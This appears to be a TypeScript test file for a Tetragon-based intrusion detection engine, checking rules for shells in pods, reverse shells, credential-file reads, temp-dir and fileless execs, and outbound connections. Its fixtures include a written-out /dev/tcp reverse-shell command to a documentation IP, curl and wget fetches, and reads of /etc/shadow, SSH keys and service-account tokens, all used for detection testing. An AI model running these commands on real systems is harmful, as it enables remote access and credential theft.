import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  execIdFor,
  parseTetragonEvent,
  type ParsedEvent,
  type TetragonProcess,
} from '@proctrail/schema';
import { DetectionEngine, type Finding } from './engine';
import { loadRulesDir } from './load-rules';

const loaded = loadRulesDir();
const engine = () => new DetectionEngine(loaded.rules);

let nextPid = 1000;

/** A process as Tetragon prints it; `start` in minutes after 12:00. */
function proc(binary: string, fields: Partial<TetragonProcess> = {}, start = 0): TetragonProcess {
  const pid = fields.pid ?? nextPid++;
  const time = new Date(Date.UTC(2024, 0, 1, 12, start)).toISOString();
  return {
    exec_id: execIdFor('node-a', BigInt(pid) * 1000n, pid),
    pid,
    uid: 0,
    binary,
    arguments: '',
    flags: 'execve clone',
    start_time: time,
    ...fields,
  };
}

const container = (startMinutes = 0) => ({
  pod: {
    namespace: 'shop',
    name: 'api-7d9f',
    container: {
      id: 'containerd://abc',
      name: 'api',
      start_time: new Date(Date.UTC(2024, 0, 1, 12, startMinutes)).toISOString(),
      pid: 7,
    },
  },
});

function event(kind: string, body: Record<string, unknown>): ParsedEvent {
  const outcome = parseTetragonEvent({
    [kind]: body,
    node_name: 'node-a',
    time: '2024-01-01T13:00:00Z',
  });
  assert.ok(outcome.ok, JSON.stringify(outcome));
  return outcome.parsed;
}

/** Evaluates one event whose ancestors (parent first) are given. */
function run(parsed: ParsedEvent, ancestors: TetragonProcess[] = []): Finding[] {
  return engine().evaluate({ eventId: 1, parsed, ancestors: () => ancestors });
}

function exec(process: TetragonProcess, ancestors: TetragonProcess[] = []): Finding[] {
  return run(event('process_exec', { process, parent: ancestors[0] }), ancestors);
}

function connect(
  process: TetragonProcess,
  daddr: string,
  dport: number,
  ancestors: TetragonProcess[] = [],
) {
  const body = {
    process,
    source_ip: '10.0.0.5',
    source_port: 40000,
    destination_ip: daddr,
    destination_port: dport,
    protocol: 'TCP',
  };
  return run(event('process_connect', body), ancestors);
}

function fileEvent(
  process: TetragonProcess,
  fn: string,
  path: string,
  ancestors: TetragonProcess[] = [],
) {
  const body = { process, function_name: fn, args: [{ file_arg: { path } }] };
  return run(event('process_kprobe', body), ancestors);
}

const rules = (findings: Finding[]) => findings.map((f) => f.rule).sort();
const fired = (findings: Finding[], rule: string) => findings.find((f) => f.rule === rule);

describe('built-in rules', () => {
  test('load without problems', () => {
    assert.deepEqual(loaded.problems, []);
    assert.ok(loaded.rules.length >= 12);
  });

  describe('shell-in-workload', () => {
    test('fires on sh in a pod, with the chain, medium without a server runtime above', () => {
      const bash = proc('/bin/bash', container(), 30);
      const sh = proc('/usr/bin/sh', { ...container(), arguments: 'lifecycle.sh' }, 31);
      const found = fired(exec(sh, [bash]), 'shell-in-workload')!;
      assert.equal(found.severity, 'medium');
      assert.deepEqual(
        found.ancestors.map((a) => a.binary),
        ['/bin/bash'],
      );
      assert.match(
        found.explanation,
        /sh \(lifecycle.sh\) started by bash \(pid \d+\) 31 minutes after/,
      );
    });

    test('is high when java is an ancestor, and names java with its pid', () => {
      const java = proc('/usr/bin/java', { ...container(), pid: 412 }, 1);
      const sh = proc('/bin/sh', container(), 74);
      const found = fired(exec(sh, [java]), 'shell-in-workload')!;
      assert.equal(found.severity, 'high');
      assert.match(
        found.explanation,
        /^\/bin\/sh \(no arguments\) started by java \(pid 412\) 74 minutes after the container started/,
      );
    });

    test('fires on busybox sh and dash, zsh, ash', () => {
      for (const [binary, args] of [
        ['/bin/busybox', 'sh -c id'],
        ['/bin/dash', ''],
        ['/usr/bin/zsh', ''],
        ['/bin/ash', ''],
      ]) {
        assert.ok(
          fired(exec(proc(binary!, { ...container(), arguments: args })), 'shell-in-workload'),
          binary,
        );
      }
    });

    test('does not fire on an operator login shell on the host, nor on busybox wget in a pod', () => {
      const sshd = proc('/usr/sbin/sshd');
      assert.equal(
        fired(exec(proc('/bin/bash', { uid: 1000 }), [sshd]), 'shell-in-workload'),
        undefined,
      );
      const wget = proc('/bin/busybox', { ...container(), arguments: 'wget http://x/' });
      assert.equal(fired(exec(wget), 'shell-in-workload'), undefined);
    });
  });

  describe('shell-under-server-runtime', () => {
    test('fires on java -> sh without any pod (host processes)', () => {
      const java = proc('/usr/lib/jvm/java-17/bin/java', { pid: 412 });
      const found = fired(
        exec(proc('/bin/sh', { arguments: '-c id' }), [java]),
        'shell-under-server-runtime',
      )!;
      assert.equal(found.severity, 'high');
      assert.match(found.explanation, /started by java \(pid 412\)/);
    });

    test('fires when the runtime is a grandparent (python3 -> bash -> bash)', () => {
      const chain = [proc('/bin/bash'), proc('/usr/bin/python3.11')];
      assert.ok(fired(exec(proc('/bin/bash'), chain), 'shell-under-server-runtime'));
    });

    test('does not fire on bash under sshd, nor on a non-shell under java', () => {
      assert.equal(
        fired(exec(proc('/bin/bash'), [proc('/usr/sbin/sshd')]), 'shell-under-server-runtime'),
        undefined,
      );
      assert.equal(
        fired(exec(proc('/usr/bin/ls'), [proc('/usr/bin/java')]), 'shell-under-server-runtime'),
        undefined,
      );
    });
  });

  describe('reverse-shell', () => {
    const sockets = [
      { fd: 0, family: 'AF_INET', peer_address: '203.0.113.9', peer_port: 4444 },
      { fd: 1, family: 'AF_INET', peer_address: '203.0.113.9', peer_port: 4444 },
    ];

    test('fires on a shell whose stdin and stdout are a TCP socket, naming the peer', () => {
      const found = fired(
        exec(proc('/bin/bash', { arguments: '-i', stdio_sockets: sockets })),
        'reverse-shell',
      )!;
      assert.equal(found.severity, 'critical');
      assert.match(found.explanation, /fd 0 -> 203\.0\.113\.9:4444, fd 1 -> 203\.0\.113\.9:4444/);
    });

    test('does not fire on a shell on a terminal, nor on a server whose stdio is a socket', () => {
      assert.equal(fired(exec(proc('/bin/bash', { arguments: '-i' })), 'reverse-shell'), undefined);
      assert.equal(
        fired(exec(proc('/usr/sbin/sshd', { stdio_sockets: sockets })), 'reverse-shell'),
        undefined,
      );
    });
  });

  describe('account-file-read-from-shell', () => {
    const sockets = [0, 1, 2].map((fd) => ({
      fd,
      family: 'AF_INET',
      peer_address: '203.0.113.9',
      peer_port: 4444,
    }));
    const java = proc('/usr/bin/java', { pid: 412 });
    const payload = proc('/bin/bash', { arguments: '-c "bash -i >& /dev/tcp/203.0.113.9/4444"' });
    const reverse = proc('/bin/bash', { arguments: '-i', stdio_sockets: sockets });
    const read = (process: TetragonProcess, path: string, ancestors: TetragonProcess[]) =>
      fired(fileEvent(process, '__x64_sys_read', path, ancestors), 'account-file-read-from-shell');

    test('fires on what a reverse shell runs reading /etc/passwd, naming the shell', () => {
      const found = read(proc('/usr/bin/cat'), '/etc/passwd', [reverse, payload, java])!;
      assert.equal(found.severity, 'high');
      assert.match(found.explanation, /^cat \(pid \d+, uid 0\) read \/etc\/passwd, .* below bash/);
      assert.ok(read(proc('/usr/bin/id'), '/etc/group', [reverse, payload, java]), 'id too');
    });

    test('fires on a file reader run by a shell that a server runtime started', () => {
      assert.ok(read(proc('/usr/bin/cat'), '/etc/passwd', [payload, java]));
    });

    test('does not fire on the shell itself, on a login shell, nor on other files', () => {
      assert.equal(read(reverse, '/etc/passwd', [payload, java]), undefined, 'bash -i');
      const login = proc('/bin/bash', { arguments: '-l' });
      assert.equal(read(proc('/usr/bin/cat'), '/etc/passwd', [login]), undefined, 'a user');
      assert.equal(read(proc('/usr/bin/id'), '/etc/passwd', [payload, java]), undefined, 'id');
      assert.equal(read(proc('/usr/bin/cat'), '/etc/hosts', [reverse]), undefined, 'hosts');
    });
  });

  describe('shell-connects-out', () => {
    test('fires on bash connecting (/dev/tcp), not on curl connecting', () => {
      assert.ok(fired(connect(proc('/bin/bash'), '203.0.113.9', 4444), 'shell-connects-out'));
      assert.equal(
        fired(connect(proc('/usr/bin/curl'), '203.0.113.9', 443), 'shell-connects-out'),
        undefined,
      );
    });
  });

  describe('server-runtime-spawns-tool', () => {
    test('fires on java -> curl, not on bash -> curl', () => {
      assert.ok(
        fired(
          exec(proc('/usr/bin/curl', { arguments: 'http://x/a.sh' }), [proc('/usr/bin/java')]),
          'server-runtime-spawns-tool',
        ),
      );
      assert.equal(
        fired(exec(proc('/usr/bin/curl'), [proc('/bin/bash')]), 'server-runtime-spawns-tool'),
        undefined,
      );
    });
  });

  describe('egress-from-spawned-shell', () => {
    test('fires on nc under sh in a pod connecting to a public address', () => {
      const sh = proc('/usr/bin/sh', container());
      const found = fired(
        connect(proc('/usr/bin/nc', container()), '64.225.45.153', 443, [sh]),
        'egress-from-spawned-shell',
      )!;
      assert.match(found.explanation, /connected to 64\.225\.45\.153:443/);
    });

    test('fires on the host when java is above the shell', () => {
      const chain = [proc('/bin/sh'), proc('/usr/bin/java')];
      assert.ok(
        fired(
          connect(proc('/usr/bin/curl'), '198.51.100.7', 80, chain),
          'egress-from-spawned-shell',
        ),
      );
    });

    test('an allowed egress (private, loopback, IPv4-mapped loopback) is not flagged', () => {
      const sh = proc('/usr/bin/sh', container());
      for (const daddr of [
        '10.96.0.10',
        '192.168.1.4',
        '127.0.0.1',
        '::ffff:127.0.0.1',
        '172.20.0.3',
      ]) {
        assert.equal(
          fired(
            connect(proc('/usr/bin/curl', container()), daddr, 443, [sh]),
            'egress-from-spawned-shell',
          ),
          undefined,
          daddr,
        );
      }
    });

    test('a pod process without a shell above it connecting out is not flagged', () => {
      const found = connect(proc('/usr/bin/java', container()), '64.225.45.153', 443, [
        proc('/usr/bin/containerd-shim'),
      ]);
      assert.equal(fired(found, 'egress-from-spawned-shell'), undefined);
    });
  });

  describe('late-exec', () => {
    test('fires on an exec 40 minutes after the container started, not 2 minutes after', () => {
      const found = fired(exec(proc('/usr/bin/cat', container(0), 40)), 'late-exec')!;
      assert.match(found.explanation, /started 40 minutes after its container api started/);
      assert.equal(fired(exec(proc('/usr/bin/cat', container(0), 2)), 'late-exec'), undefined);
    });

    test('measures from the workload root when there is only a docker id', () => {
      const root = proc('/app/server', { docker: 'd0cker' }, 0);
      const late = proc('/usr/bin/id', { docker: 'd0cker' }, 10);
      assert.ok(fired(exec(late, [root]), 'late-exec'));
      assert.equal(
        fired(exec(proc('/usr/bin/id', {}, 10), [proc('/usr/sbin/sshd')]), 'late-exec'),
        undefined,
      );
    });
  });

  describe('sensitive files', () => {
    test('reads of /etc/shadow, environ, service-account tokens and SSH keys fire', () => {
      const cat = proc('/usr/bin/cat');
      for (const path of [
        '/etc/shadow',
        '/proc/1/environ',
        '/var/run/secrets/kubernetes.io/serviceaccount/token',
        '/root/.ssh/id_ed25519',
      ]) {
        assert.ok(fired(fileEvent(cat, 'security_file_open', path), 'sensitive-file-read'), path);
      }
    });

    test('reads of a public key or /etc/hosts do not fire', () => {
      const cat = proc('/usr/bin/cat');
      for (const path of ['/root/.ssh/id_rsa.pub', '/etc/hosts']) {
        assert.equal(
          fired(fileEvent(cat, 'security_file_open', path), 'sensitive-file-read'),
          undefined,
          path,
        );
      }
    });

    test('writes to /etc/passwd, sudoers and authorized_keys fire; a read of /etc/passwd does not', () => {
      const editor = proc('/usr/bin/tee');
      for (const path of ['/etc/passwd', '/etc/sudoers', '/home/ana/.ssh/authorized_keys']) {
        assert.ok(fired(fileEvent(editor, '__x64_sys_write', path), 'sensitive-file-write'), path);
      }
      assert.equal(
        fired(fileEvent(editor, '__x64_sys_read', '/etc/passwd'), 'sensitive-file-write'),
        undefined,
      );
    });
  });

  describe('binaries', () => {
    test('exec from /tmp and /dev/shm fires, /usr/bin does not', () => {
      assert.ok(fired(exec(proc('/tmp/x')), 'exec-from-temp'));
      assert.ok(fired(exec(proc('/dev/shm/.k')), 'exec-from-temp'));
      assert.equal(fired(exec(proc('/usr/bin/ls')), 'exec-from-temp'), undefined);
    });

    test('a memfd or deleted binary fires fileless-exec, a linked one does not', () => {
      assert.ok(fired(exec(proc('/memfd:payload (deleted)')), 'fileless-exec'));
      const unlinked = proc('/opt/app', {
        binary_properties: { file: { inode: { number: '5', links: 0 } } },
      });
      assert.ok(fired(exec(unlinked), 'fileless-exec'));
      const linked = proc('/opt/app', {
        binary_properties: { file: { inode: { number: '5', links: 1 } } },
      });
      assert.equal(fired(exec(linked), 'fileless-exec'), undefined);
    });

    test('a setuid binary run by uid 1000 fires; by root, or without setuid, it does not', () => {
      const setuid = { binary_properties: { setuid: 0 } };
      assert.ok(
        fired(
          exec(proc('/usr/bin/pkexec', { ...setuid, uid: 0, process_credentials: { uid: 1000 } })),
          'setuid-by-non-root',
        ),
      );
      assert.equal(
        fired(
          exec(proc('/usr/bin/pkexec', { ...setuid, uid: 0, process_credentials: { uid: 0 } })),
          'setuid-by-non-root',
        ),
        undefined,
      );
      assert.equal(
        fired(exec(proc('/usr/bin/ls', { uid: 1000 })), 'setuid-by-non-root'),
        undefined,
      );
    });

    test('a container process outside the init tree fires; one inside it, or unknown, does not', () => {
      assert.ok(
        fired(
          exec(proc('/bin/ls', { ...container(), in_init_tree: false })),
          'container-entered-from-outside',
        ),
      );
      assert.equal(
        fired(
          exec(proc('/bin/ls', { ...container(), in_init_tree: true })),
          'container-entered-from-outside',
        ),
        undefined,
      );
      assert.equal(
        fired(exec(proc('/bin/ls', container())), 'container-entered-from-outside'),
        undefined,
      );
    });
  });

  test('one detection per rule and process: a second exec event of the same process is not repeated', () => {
    const detections = engine();
    const sh = proc('/bin/sh', container());
    const parsed = event('process_exec', { process: sh });
    const first = detections.evaluate({ eventId: 1, parsed, ancestors: () => [] });
    const second = detections.evaluate({ eventId: 2, parsed, ancestors: () => [] });
    assert.ok(rules(first).includes('shell-in-workload'));
    assert.deepEqual(second, []);
  });
});
